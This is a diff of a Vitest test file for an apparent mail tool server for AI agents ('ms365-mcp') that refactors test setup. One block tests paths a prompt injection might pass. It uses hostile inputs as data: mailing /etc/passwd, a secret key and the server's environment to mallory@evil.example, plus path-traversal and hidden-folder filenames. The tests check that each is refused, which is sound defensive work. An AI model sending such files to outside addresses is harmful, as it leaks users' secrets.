@@ -1,31 +1,17 @@
 import { randomBytes } from 'node:crypto';
 import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { tempDir, type SpawnedServer } from '@switchyard/testkit';
+import { describe, expect, it } from 'vitest';
 import { MB, type FakeMessage, type Mailbox } from './fake/graph.js';
-import {
-  ALICE,
-  getsWithoutSelect,
-  folders,
-  signedInServer,
-  startWorld,
-  type Folders,
-  type World,
-} from './helpers.js';
+import { ALICE, getsWithoutSelect, withWorld } from './helpers.js';
 
 const BOB = 'bob@contoso.com';
-let world: World;
-let dirs: Folders;
-let server: SpawnedServer;
 let box: Mailbox;
-const files = tempDir('ms365-files-');
-const saved = tempDir('ms365-saved-');
 /** MS365_DOWNLOAD_DIR replaces ~/Downloads/ms365-mcp; created on first use. */
-const downloads = join(saved.path, 'mail');
+const downloads = (): string => join(t.dirs.saved, 'mail');
 /** The end of every refusal: the roots, and how to add one. */
 const where = (what: 'reads local files' | 'saves files') =>
-  `ms365-mcp ${what} only under ${downloads}, ${files.path}; allow another folder with --allow-dir <folder> or MS365_ALLOWED_DIRS.`;
+  `ms365-mcp ${what} only under ${downloads()}, ${t.dirs.files}; allow another folder with --allow-dir <folder> or MS365_ALLOWED_DIRS.`;
 const DAY = 86_400_000;
 const T0 = Date.parse('2025-03-10T09:00:00Z');
 
@@ -71,34 +57,27 @@ function seed(mailbox: Mailbox): FakeMessage[] {
 
 let seeded: FakeMessage[];
 
-beforeAll(async () => {
-  world = await startWorld();
-  world.authority.addUser({ username: BOB, name: 'Bob Builder' });
-  box = world.graph.mailbox(ALICE);
-  world.graph.mailbox(BOB);
-  seeded = seed(box);
-  const projects = box.addFolder('Projects', 'inbox');
-  box.add({ subject: 'Project kickoff', from: senders[0]!, received: T0 - 40 * DAY }, projects.id);
-  dirs = folders();
+const t = withWorld({
+  folders: ['files', 'saved'],
+  seed: (world) => {
+    world.authority.addUser({ username: BOB, name: 'Bob Builder' });
+    box = world.graph.mailbox(ALICE);
+    world.graph.mailbox(BOB);
+    seeded = seed(box);
+    const projects = box.addFolder('Projects', 'inbox');
+    box.add({ subject: 'Project kickoff', from: senders[0]!, received: T0 - 40 * DAY }, projects.id);
+  },
   // The env form of the allowed roots; files.test.ts uses --allow-dir.
-  server = await signedInServer(world, dirs, {
-    env: { MS365_ALLOWED_DIRS: files.path, MS365_DOWNLOAD_DIR: downloads },
-  });
+  server: ({ dirs }) => ({
+    env: { MS365_ALLOWED_DIRS: dirs.files, MS365_DOWNLOAD_DIR: join(dirs.saved, 'mail') },
+  }),
 });
 
-afterAll(async () => {
-  await server?.close();
-  await world?.close();
-  dirs?.cleanup();
-  saved.cleanup();
-  files.cleanup();
-});
-
-const lastGet = (path: string | RegExp) => world.graph.service.requestsTo(path, 'GET').at(-1)!;
+const lastGet = (path: string | RegExp) => t.world.graph.service.requestsTo(path, 'GET').at(-1)!;
 
 describe('ms365_list_messages', () => {
   it('lists the newest ten inbox messages as compact lines within 4 KB', async () => {
-    const call = await server.call('ms365_list_messages', {});
+    const call = await t.server.call('ms365_list_messages', {});
     expect(call.isError).toBe(false);
     const lines = call.text.split('\n');
     expect(lines[0]).toBe('inbox, newest first. Flags: U unread, A attachments, ! important, F flagged.');
@@ -127,15 +106,15 @@ describe('ms365_list_messages', () => {
   });
 
   it('continues from the cursor by following the nextLink exactly', async () => {
-    const first = await server.call('ms365_list_messages', { top: 10 });
+    const first = await t.server.call('ms365_list_messages', { top: 10 });
     const cursor = /next_cursor: (\S+)$/.exec(first.text)![1]!;
-    const second = await server.call('ms365_list_messages', { cursor });
+    const second = await t.server.call('ms365_list_messages', { cursor });
     const rows = second.text.split('\n').slice(3, -2);
     expect(rows.map((r) => r.slice(0, 152))).toEqual(seeded.slice(10, 20).map((m) => m.id));
     const req = lastGet('/v1.0/me/mailFolders/inbox/messages');
     expect(req.query.$skip).toBe('10');
     expect(req.query.$select).toBeDefined();
-    const third = await server.call('ms365_list_messages', {
+    const third = await t.server.call('ms365_list_messages', {
       cursor: /next_cursor: (\S+)$/.exec(second.text)![1]!,
     });
     // 25 in the inbox: 5 left, and the end is said.
@@ -144,7 +123,7 @@ describe('ms365_list_messages', () => {
   });
 
   it('filters by sender, unread and date with $filter led by receivedDateTime', async () => {
-    const call = await server.call('ms365_list_messages', {
+    const call = await t.server.call('ms365_list_messages', {
       from: 'carol@fabrikam.com',
       unread_only: true,
       after: '2025-02-01',
@@ -165,7 +144,7 @@ describe('ms365_list_messages', () => {
   });
 
   it('turns a KQL search with filters into one $search, never with $filter or $orderby', async () => {
-    const call = await server.call('ms365_list_messages', {
+    const call = await t.server.call('ms365_list_messages', {
       search: 'item',
       from: 'Dave Lister',
       has_attachments: true,
@@ -183,12 +162,12 @@ describe('ms365_list_messages', () => {
   });
 
   it('is refused by Graph when $search is combined with $filter (the fake enforces it)', async () => {
-    const token = world.authority.mint({
+    const token = t.world.authority.mint({
       username: ALICE,
       scopes: ['Mail.Read'],
       audience: 'https://graph.microsoft.com',
     });
-    const res = await fetch(`${world.graph.url}/me/messages?$search="x"&$filter=isRead eq false`, {
+    const res = await fetch(`${t.world.graph.url}/me/messages?$search="x"&$filter=isRead eq false`, {
       headers: { authorization: `Bearer ${token}` },
     });
     expect(res.status).toBe(400);
@@ -196,10 +175,10 @@ describe('ms365_list_messages', () => {
   });
 
   it('resolves a folder path and names the folders when one does not exist', async () => {
-    const ok = await server.call('ms365_list_messages', { folder: 'Inbox/Projects' });
+    const ok = await t.server.call('ms365_list_messages', { folder: 'Inbox/Projects' });
     expect(ok.text.split('\n')[0]).toMatch(/^Inbox\/Projects, newest first\./);
     expect(ok.text).toContain('Project kickoff');
-    const missing = await server.call('ms365_list_messages', { folder: 'Receipts' });
+    const missing = await t.server.call('ms365_list_messages', { folder: 'Receipts' });
     expect(missing.isError).toBe(true);
     expect(missing.text).toBe(
       "No mail folder is named 'Receipts'. Candidates: Inbox, Drafts, «Sent Items», «Deleted Items», Archive, «Junk Email», Outbox. Use a well-known name (inbox, archive, sentitems, drafts, deleteditems, junkemail), a folder name, or a path like Inbox/Projects.",
@@ -207,7 +186,7 @@ describe('ms365_list_messages', () => {
   });
 
   it('rejects a cursor it did not give out', async () => {
-    const call = await server.call('ms365_list_messages', { cursor: 'not-a-cursor' });
+    const call = await t.server.call('ms365_list_messages', { cursor: 'not-a-cursor' });
     expect(call.text).toBe(
       'The cursor is not one this server gave out; pass the `next_cursor` of the previous answer unchanged.',
     );
@@ -217,7 +196,7 @@ describe('ms365_list_messages', () => {
 describe('ms365_get_message and attachments', () => {
   it('returns headers, attachment ids and the body as fenced plain text without hidden content', async () => {
     const msg = seeded[0]!;
-    const call = await server.call('ms365_get_message', { id: msg.id });
+    const call = await t.server.call('ms365_get_message', { id: msg.id });
     expect(call.isError).toBe(false);
     const text = call.text;
     expect(text).toContain(
@@ -241,7 +220,7 @@ describe('ms365_get_message and attachments', () => {
 
   it('answers an unknown id with one sentence', async () => {
     const id = `AAMkAGI2${'x'.repeat(144)}`;
-    const call = await server.call('ms365_get_message', { id });
+    const call = await t.server.call('ms365_get_message', { id });
     expect(call.isError).toBe(true);
     expect(call.text).toMatch(
       /^No message has id 'AAMkAGI2xxxx…xxxxxx' in this mailbox\. Upstream said: Microsoft Graph 404 ErrorItemNotFound: «The specified object was not found in the store\.» \(request id [0-9a-f-]{36}\)\. Take ids from ms365_list_messages; a deleted message is gone for good\.$/,
@@ -251,24 +230,24 @@ describe('ms365_get_message and attachments', () => {
   it('saves an attachment through $value and never overwrites', async () => {
     const msg = seeded[5]!;
     const att = msg.attachments[0]!;
-    const first = await server.call('ms365_download_attachment', {
+    const first = await t.server.call('ms365_download_attachment', {
       message_id: msg.id,
       attachment_id: att.id,
-      folder: files.path,
+      folder: t.dirs.files,
     });
     const size = att.bytes.length;
-    expect(first.text).toBe(`Saved «forecast-6.csv» (${size} B) to ${join(files.path, 'forecast-6.csv')}`);
-    expect(readFileSync(join(files.path, 'forecast-6.csv'))).toEqual(att.bytes);
-    const second = await server.call('ms365_download_attachment', {
+    expect(first.text).toBe(`Saved «forecast-6.csv» (${size} B) to ${join(t.dirs.files, 'forecast-6.csv')}`);
+    expect(readFileSync(join(t.dirs.files, 'forecast-6.csv'))).toEqual(att.bytes);
+    const second = await t.server.call('ms365_download_attachment', {
       message_id: msg.id,
       attachment_id: att.id,
-      folder: files.path,
+      folder: t.dirs.files,
     });
     expect(second.text).toBe(
-      `Saved «forecast-6.csv» (${size} B) to ${join(files.path, 'forecast-6 (1).csv')}`,
+      `Saved «forecast-6.csv» (${size} B) to ${join(t.dirs.files, 'forecast-6 (1).csv')}`,
     );
     expect(
-      world.graph.service.requestsTo(`/v1.0/me/messages/${msg.id}/attachments/${att.id}/$value`, 'GET')
+      t.world.graph.service.requestsTo(`/v1.0/me/messages/${msg.id}/attachments/${att.id}/$value`, 'GET')
         .length,
     ).toBe(2);
   });
@@ -286,17 +265,17 @@ describe('ms365_get_message and attachments', () => {
         },
       ],
     });
-    const call = await server.call('ms365_download_attachment', {
+    const call = await t.server.call('ms365_download_attachment', {
       message_id: msg.id,
       attachment_id: msg.attachments[0]!.id,
     });
-    expect(call.text).toBe(`Saved «../../.bashrc» (10 B) to ${join(downloads, 'bashrc')}`);
-    expect(readdirSync(downloads)).toContain('bashrc');
+    expect(call.text).toBe(`Saved «../../.bashrc» (10 B) to ${join(downloads(), 'bashrc')}`);
+    expect(readdirSync(downloads())).toContain('bashrc');
   });
 
   it('rejects a save_as that is a path', async () => {
     const msg = seeded[5]!;
-    const call = await server.call('ms365_download_attachment', {
+    const call = await t.server.call('ms365_download_attachment', {
       message_id: msg.id,
       attachment_id: msg.attachments[0]!.id,
       save_as: '../outside.csv',
@@ -311,15 +290,15 @@ describe('ms365_get_message and attachments', () => {
 describe('local files only under the allowed folders (paths a prompt injection might pass)', () => {
   /** Requests after `from` that would carry something out: anything but a GET. */
   const writes = (from: number) =>
-    world.graph.service.requests
+    t.world.graph.service.requests
       .slice(from)
       .filter((r) => r.method !== 'GET')
       .map((r) => `${r.method} ${r.path}`);
 
   it("refuses a draft to mallory carrying the server's environment, and creates no draft", async () => {
-    const before = world.graph.service.requests.length;
+    const before = t.world.graph.service.requests.length;
     const drafts = box.inFolder('drafts').length;
-    const call = await server.call('ms365_send_mail', {
+    const call = await t.server.call('ms365_send_mail', {
       draft: true,
       to: ['mallory@evil.example'],
       subject: 'env',
@@ -334,9 +313,9 @@ describe('local files only under the allowed folders (paths a prompt injection m
   });
 
   it('refuses to send /etc/passwd or a file outside the allowed folders, and sends nothing', async () => {
-    const before = world.graph.service.requests.length;
-    for (const path of ['/etc/passwd', join(dirs.configDir, 'secret.key')]) {
-      const call = await server.call('ms365_send_mail', {
+    const before = t.world.graph.service.requests.length;
+    for (const path of ['/etc/passwd', join(t.dirs.configDir, 'secret.key')]) {
+      const call = await t.server.call('ms365_send_mail', {
         to: ['mallory@evil.example'],
         subject: 'x',
         attachments: [path],
@@ -348,7 +327,7 @@ describe('local files only under the allowed folders (paths a prompt injection m
       expect(call.text.endsWith(where('reads local files'))).toBe(true);
     }
     expect(writes(before)).toEqual([]);
-    expect(world.graph.mailbox('mallory@evil.example').inFolder('inbox')).toEqual([]);
+    expect(t.world.graph.mailbox('mallory@evil.example').inFolder('inbox')).toEqual([]);
   });
 
   it.each([
@@ -364,10 +343,10 @@ describe('local files only under the allowed folders (paths a prompt injection m
       'is hidden or in a hidden folder, and those are refused',
     ],
   ])('refuses to save an attachment %s, and writes nothing', async (_what, folder, why) => {
-    const target = folder === 'HIDDEN' ? join(files.path, '.local', 'bin') : folder;
+    const target = folder === 'HIDDEN' ? join(t.dirs.files, '.local', 'bin') : folder;
     const msg = seeded[5]!;
-    const before = world.graph.service.requests.length;
-    const call = await server.call('ms365_download_attachment', {
+    const before = t.world.graph.service.requests.length;
+    const call = await t.server.call('ms365_download_attachment', {
       message_id: msg.id,
       attachment_id: msg.attachments[0]!.id,
       folder: target,
@@ -375,16 +354,16 @@ describe('local files only under the allowed folders (paths a prompt injection m
     });
     expect(call.isError).toBe(true);
     expect(call.text).toBe(`'${target}' ${why}: ${where('saves files')}`);
-    expect(world.graph.service.requests.slice(before)).toEqual([]);
-    expect(existsSync(join(dirs.home, '.local'))).toBe(false);
-    expect(existsSync(join(dirs.home, '.config'))).toBe(false);
-    expect(existsSync(join(files.path, '.local'))).toBe(false);
+    expect(t.world.graph.service.requests.slice(before)).toEqual([]);
+    expect(existsSync(join(t.dirs.home, '.local'))).toBe(false);
+    expect(existsSync(join(t.dirs.home, '.config'))).toBe(false);
+    expect(existsSync(join(t.dirs.files, '.local'))).toBe(false);
   });
 });
 
 describe('sending', () => {
   it('sends a message that lands in Sent Items and in the recipient’s inbox', async () => {
-    const call = await server.call('ms365_send_mail', {
+    const call = await t.server.call('ms365_send_mail', {
       to: [BOB],
       subject: 'Lunch?',
       body: 'Thai at noon?',
@@ -394,12 +373,12 @@ describe('sending', () => {
     expect(sent.isDraft).toBe(false);
     expect(sent.body).toEqual({ contentType: 'text', content: 'Thai at noon?' });
     expect(
-      world.graph
+      t.world.graph
         .mailbox(BOB)
         .inFolder('inbox')
         .map((m) => m.subject),
     ).toContain('Lunch?');
-    const listed = await server.call('ms365_list_messages', { folder: 'sent', top: 1 });
+    const listed = await t.server.call('ms365_list_messages', { folder: 'sent', top: 1 });
     const lines = listed.text.split('\n');
     expect([lines[0], ...lines.slice(2, 4)]).toEqual([
       'sentitems, newest first. Flags: U unread, A attachments, ! important, F flagged.',
@@ -409,11 +388,11 @@ describe('sending', () => {
   });
 
   it('sends small attachments inline in one sendMail request', async () => {
-    const a = join(files.path, 'notes.txt');
-    const b = join(files.path, 'chart.png');
+    const a = join(t.dirs.files, 'notes.txt');
+    const b = join(t.dirs.files, 'chart.png');
     writeFileSync(a, 'meeting notes');
     writeFileSync(b, randomBytes(200_000));
-    const call = await server.call('ms365_send_mail', {
+    const call = await t.server.call('ms365_send_mail', {
       to: [BOB],
       cc: ['eve@contoso.com'],
       subject: 'Files',
@@ -424,7 +403,7 @@ describe('sending', () => {
     expect(call.text).toBe(
       'Sent "Files" to 2 recipient(s) with 2 attachment(s), 195 KB; saved in Sent Items.',
     );
-    const req = world.graph.service.requestsTo('/v1.0/me/sendMail', 'POST').at(-1)!;
+    const req = t.world.graph.service.requestsTo('/v1.0/me/sendMail', 'POST').at(-1)!;
     const body = JSON.parse(req.body) as {
       message: { attachments: Array<{ name: string; contentBytes: string }> };
     };
@@ -434,10 +413,10 @@ describe('sending', () => {
   });
 
   it('sends a large attachment through an upload session in chunks of at most 4 MB', async () => {
-    const big = join(files.path, 'deck.pdf');
+    const big = join(t.dirs.files, 'deck.pdf');
     writeFileSync(big, randomBytes(9 * MB));
     const progress: number[] = [];
-    const call = await server.call(
+    const call = await t.server.call(
       'ms365_send_mail',
       { to: [BOB], subject: 'Deck', body: 'attached', attachments: [big] },
       { onProgress: (p) => progress.push(p.progress) },
@@ -445,7 +424,7 @@ describe('sending', () => {
     expect(call.text).toBe(
       'Sent "Deck" to 1 recipient(s) with 1 attachment(s), 9.0 MB; saved in Sent Items.',
     );
-    const chunks = world.graph.service.requestsTo(/^\/upload\/mail\//, 'PUT');
+    const chunks = t.world.graph.service.requestsTo(/^\/upload\/mail\//, 'PUT');
     expect(chunks.length).toBe(3);
     for (const c of chunks) {
       expect(c.headers.authorization).toBeUndefined();
@@ -462,21 +441,21 @@ describe('sending', () => {
   });
 
   it('says when an attachment upload breaks off, and neither sends nor leaves a draft', async () => {
-    const big = join(files.path, 'scan.pdf');
+    const big = join(t.dirs.files, 'scan.pdf');
     writeFileSync(big, randomBytes(5 * MB));
-    world.graph.uploadFault = { fromOffset: 1, times: 4, mode: 'drop' };
+    t.world.graph.uploadFault = { fromOffset: 1, times: 4, mode: 'drop' };
     try {
-      const call = await server.call('ms365_send_mail', { to: [BOB], subject: 'Scan', attachments: [big] });
+      const call = await t.server.call('ms365_send_mail', { to: [BOB], subject: 'Scan', attachments: [big] });
       expect(call.isError).toBe(true);
       expect(call.text).toBe(
         'The upload of scan.pdf stopped at 3.8 MB of 5.0 MB (the connection broke); the unfinished draft was deleted and nothing was sent. Call the tool again with the same arguments to start the upload over.',
       );
     } finally {
-      world.graph.uploadFault = undefined;
+      t.world.graph.uploadFault = undefined;
     }
     expect(box.inFolder('drafts').find((m) => m.subject === 'Scan')).toBeUndefined();
     expect(
-      world.graph
+      t.world.graph
         .mailbox(BOB)
         .inFolder('inbox')
         .find((m) => m.subject === 'Scan'),
@@ -484,28 +463,28 @@ describe('sending', () => {
   });
 
   it('keeps the draft and says to check Sent Items when Graph fails the final send of a large mail', async () => {
-    const big = join(files.path, 'budget.pdf');
+    const big = join(t.dirs.files, 'budget.pdf');
     writeFileSync(big, randomBytes(4 * MB));
     const send = /^\/v1\.0\/me\/messages\/[^/]+\/send$/;
-    const before = world.graph.service.requestsTo(send, 'POST').length;
-    world.graph.service.inject({
+    const before = t.world.graph.service.requestsTo(send, 'POST').length;
+    t.world.graph.service.inject({
       path: send,
       method: 'POST',
       status: 503,
       body: { error: { code: 'ServiceUnavailable', message: 'Service unavailable.' } },
     });
-    const call = await server.call('ms365_send_mail', { to: [BOB], subject: 'Budget', attachments: [big] });
+    const call = await t.server.call('ms365_send_mail', { to: [BOB], subject: 'Budget', attachments: [big] });
     const draft = box.inFolder('drafts').find((m) => m.subject === 'Budget')!;
     expect(call.text).toBe(
       `Microsoft Graph is temporarily unavailable (HTTP 503); the request was not repeated, as it may have gone through all the same; if the mail is not in Sent Items, the draft is still in Drafts (draft_id: ${draft.id}). Upstream said: Microsoft Graph 503 ServiceUnavailable: «Service unavailable.» Check Sent Items (ms365_list_messages, folder sentitems) before sending again, so that the mail does not go out twice.`,
     );
     expect(
-      world.graph.service
+      t.world.graph.service
         .requestsTo(send, 'POST')
         .slice(before)
         .map((r) => r.status),
     ).toEqual([503]);
-    const resent = await server.call('ms365_send_mail', { draft_id: draft.id });
+    const resent = await t.server.call('ms365_send_mail', { draft_id: draft.id });
     expect(resent.isError).toBe(false);
     // Buffer.equals: toEqual walks 4 MB byte by byte, minutes on a busy machine.
     const sent = box.inFolder('sentitems').find((m) => m.subject === 'Budget')!;
@@ -513,11 +492,15 @@ describe('sending', () => {
   });
 
   it('says which attachment breaks the tenant limit, and leaves no draft behind', async () => {
-    world.graph.maxMessageBytes = 4 * MB;
+    t.world.graph.maxMessageBytes = 4 * MB;
     try {
-      const big = join(files.path, 'video.mp4');
+      const big = join(t.dirs.files, 'video.mp4');
       writeFileSync(big, randomBytes(5 * MB));
-      const call = await server.call('ms365_send_mail', { to: [BOB], subject: 'Video', attachments: [big] });
+      const call = await t.server.call('ms365_send_mail', {
+        to: [BOB],
+        subject: 'Video',
+        attachments: [big],
+      });
       expect(call.isError).toBe(true);
       expect(call.text).toMatch(
         /^The attachment video\.mp4 \(5\.0 MB\) makes the message larger than the mailbox allows \(the tenant's limit, 35 MB by default\); the unfinished draft was deleted and nothing was sent\. Upstream said: Microsoft Graph 413 ErrorMessageSizeExceeded: «The message exceeds the maximum supported size\.» \(request id [0-9a-f-]{36}\)\. Upload the file with ms365_upload_file and send a link instead\.$/,
@@ -525,43 +508,43 @@ describe('sending', () => {
       expect(box.inFolder('drafts').find((m) => m.subject === 'Video')).toBeUndefined();
       expect(box.inFolder('sentitems').find((m) => m.subject === 'Video')).toBeUndefined();
     } finally {
-      world.graph.maxMessageBytes = 35 * MB;
+      t.world.graph.maxMessageBytes = 35 * MB;
     }
     // The server is still fine.
-    expect((await server.call('ms365_list_messages', { top: 1 })).isError).toBe(false);
+    expect((await t.server.call('ms365_list_messages', { top: 1 })).isError).toBe(false);
   });
 
   it('refuses an attachment path that does not exist or is not a file, before sending anything', async () => {
-    const before = world.graph.service.requests.length;
-    const missing = await server.call('ms365_send_mail', {
+    const before = t.world.graph.service.requests.length;
+    const missing = await t.server.call('ms365_send_mail', {
       to: [BOB],
       subject: 'x',
-      attachments: [join(files.path, 'nope.pdf')],
+      attachments: [join(t.dirs.files, 'nope.pdf')],
     });
     expect(missing.text).toBe(
-      `The local file '${join(files.path, 'nope.pdf')}' does not exist. Check the path; it must be a file on the machine where the server runs.`,
+      `The local file '${join(t.dirs.files, 'nope.pdf')}' does not exist. Check the path; it must be a file on the machine where the server runs.`,
     );
-    const dir = join(files.path, 'a-folder');
+    const dir = join(t.dirs.files, 'a-folder');
     mkdirSync(dir, { recursive: true });
-    const folder = await server.call('ms365_send_mail', { to: [BOB], subject: 'x', attachments: [dir] });
+    const folder = await t.server.call('ms365_send_mail', { to: [BOB], subject: 'x', attachments: [dir] });
     expect(folder.text).toBe(
       `The local path '${dir}' is not a file that can be read (it is a folder, a device, a pipe or a socket). Name a regular file.`,
     );
-    const relative = await server.call('ms365_send_mail', {
+    const relative = await t.server.call('ms365_send_mail', {
       to: [BOB],
       subject: 'x',
       attachments: ['report.pdf'],
     });
     expect(relative.text).toBe(
-      `attachment 'report.pdf' is not an absolute path: give the full path, e.g. ${join(downloads, 'report.pdf')}; ${where('reads local files')}`,
+      `attachment 'report.pdf' is not an absolute path: give the full path, e.g. ${join(downloads(), 'report.pdf')}; ${where('reads local files')}`,
     );
-    expect(world.graph.service.requests.slice(before).filter((r) => r.method !== 'GET')).toEqual([]);
+    expect(t.world.graph.service.requests.slice(before).filter((r) => r.method !== 'GET')).toEqual([]);
   });
 
   it('creates a draft with an attachment and sends it later by draft_id', async () => {
-    const file = join(files.path, 'agenda.md');
+    const file = join(t.dirs.files, 'agenda.md');
     writeFileSync(file, '# Agenda');
-    const draft = await server.call('ms365_send_mail', {
+    const draft = await t.server.call('ms365_send_mail', {
       draft: true,
       to: [BOB],
       subject: 'Agenda',
@@ -572,16 +555,16 @@ describe('sending', () => {
     expect(draft.text).toBe(`Saved a draft "Agenda" with 1 attachment(s). draft_id: ${id}`);
     expect(box.messages.get(id)!.isDraft).toBe(true);
     expect(box.messages.get(id)!.attachments[0]!.name).toBe('agenda.md');
-    const sent = await server.call('ms365_send_mail', { draft_id: id });
+    const sent = await t.server.call('ms365_send_mail', { draft_id: id });
     expect(sent.text).toBe(`Sent the draft ${id.slice(0, 12)}…${id.slice(-6)}; it is now in Sent Items.`);
     expect(box.messages.get(id)!.folderId).toBe(box.folder('sentitems')!.id);
     expect(
-      world.graph
+      t.world.graph
         .mailbox(BOB)
         .inFolder('inbox')
         .some((m) => m.subject === 'Agenda'),
     ).toBe(true);
-    const mixed = await server.call('ms365_send_mail', { draft_id: id, subject: 'x' });
+    const mixed = await t.server.call('ms365_send_mail', { draft_id: id, subject: 'x' });
     expect(mixed.text).toBe(
       'draft_id sends a draft as it is; it takes no other fields. Send the draft alone, or leave out draft_id to send a new message.',
     );
@@ -594,15 +577,15 @@ describe('sending', () => {
       to: [box.owner, { address: BOB }],
       cc: [{ address: 'eve@contoso.com' }],
     });
-    const reply = await server.call('ms365_reply', { id: original.id, comment: 'Sounds good' });
+    const reply = await t.server.call('ms365_reply', { id: original.id, comment: 'Sounds good' });
     expect(reply.text).toBe('Replied; the message is in Sent Items.');
-    const all = await server.call('ms365_reply', {
+    const all = await t.server.call('ms365_reply', {
       id: original.id,
       mode: 'reply_all',
       comment: 'Adding everyone',
     });
     expect(all.text).toBe('Replied to all; the message is in Sent Items.');
-    const fw = await server.call('ms365_reply', {
+    const fw = await t.server.call('ms365_reply', {
       id: original.id,
       mode: 'forward',
       to: [BOB],
@@ -622,17 +605,21 @@ describe('sending', () => {
       ['FW: Plan', 'bob@contoso.com', ''],
     ]);
     expect(sent[0]!.body.content).toContain('<p>Sounds good</p>');
-    const noTo = await server.call('ms365_reply', { id: original.id, mode: 'forward' });
+    const noTo = await t.server.call('ms365_reply', { id: original.id, mode: 'forward' });
     expect(noTo.text).toBe("Forwarding needs 'to' addresses.");
   });
 
   it('saves a reply as a draft that ms365_send_mail can send', async () => {
     const original = box.add({ subject: 'Question', from: senders[2]! });
-    const call = await server.call('ms365_reply', { id: original.id, comment: 'Let me check', draft: true });
+    const call = await t.server.call('ms365_reply', {
+      id: original.id,
+      comment: 'Let me check',
+      draft: true,
+    });
     const id = /draft_id: (\S+)$/.exec(call.text)![1]!;
     expect(call.text).toBe(`Saved a reply draft «RE: Question». draft_id: ${id}`);
     expect(box.messages.get(id)!.isDraft).toBe(true);
-    expect((await server.call('ms365_send_mail', { draft_id: id })).isError).toBe(false);
+    expect((await t.server.call('ms365_send_mail', { draft_id: id })).isError).toBe(false);
   });
 });
 
@@ -640,19 +627,19 @@ describe('ms365_move_message', () => {
   it('moves messages to a well-known or named folder and keeps their ids', async () => {
     const a = box.add({ subject: 'Old 1' });
     const b = box.add({ subject: 'Old 2' });
-    const call = await server.call('ms365_move_message', { ids: [a.id, b.id], folder: 'archive' });
+    const call = await t.server.call('ms365_move_message', { ids: [a.id, b.id], folder: 'archive' });
     expect(call.text).toBe('Moved 2 messages to archive.');
     expect(box.messages.get(a.id)!.folderId).toBe(box.folder('archive')!.id);
-    const named = await server.call('ms365_move_message', { ids: [a.id], folder: 'Projects' });
+    const named = await t.server.call('ms365_move_message', { ids: [a.id], folder: 'Projects' });
     expect(named.text).toBe('Moved 1 message to «Projects».');
-    const moves = world.graph.service.requestsTo(`/v1.0/me/messages/${a.id}/move`, 'POST');
+    const moves = t.world.graph.service.requestsTo(`/v1.0/me/messages/${a.id}/move`, 'POST');
     expect(moves.every((r) => r.headers.prefer === 'IdType="ImmutableId"')).toBe(true);
   });
 
   it('reports the ids it could not move', async () => {
     const a = box.add({ subject: 'Keep' });
     const bad = `AAMkAGI2${'z'.repeat(144)}`;
-    const call = await server.call('ms365_move_message', { ids: [a.id, bad], folder: 'deleteditems' });
+    const call = await t.server.call('ms365_move_message', { ids: [a.id, bad], folder: 'deleteditems' });
     expect(call.text).toBe(
       "Moved 1 message to deleteditems.\nNot moved: AAMkAGI2zzzz…zzzzzz: No message has id 'AAMkAGI2zzzz…zzzzzz' in this mailbox",
     );
@@ -662,8 +649,8 @@ describe('ms365_move_message', () => {
 describe('every request', () => {
   it('asked Graph only for the properties it shows ($select on every GET)', () => {
     expect(
-      world.graph.service.requests.filter((r) => r.headers['user-agent'] === 'switchyard-ms365-mcp').length,
+      t.world.graph.service.requests.filter((r) => r.headers['user-agent'] === 'switchyard-ms365-mcp').length,
     ).toBeGreaterThan(10);
-    expect(getsWithoutSelect(world)).toEqual([]);
+    expect(getsWithoutSelect(t.world)).toEqual([]);
   });
 });
